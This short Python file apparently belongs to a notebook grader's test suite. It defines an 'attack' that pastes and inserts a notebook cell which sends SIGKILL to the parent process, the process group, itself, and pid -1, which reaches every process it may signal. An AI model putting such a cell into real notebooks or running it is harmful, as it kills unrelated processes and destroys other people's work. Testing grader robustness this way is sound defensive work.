"""Kills its own process, its parent, its group and everybody."""

from grader.attacks import insert, paste

STOCK = "held the batch up for more than 120 s"


def cell():
    import os
    import signal

    for pid in (os.getppid(), -1, 0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def attack(nb, folder):
    paste(nb, "softmax", cell)
    insert(nb, cell)
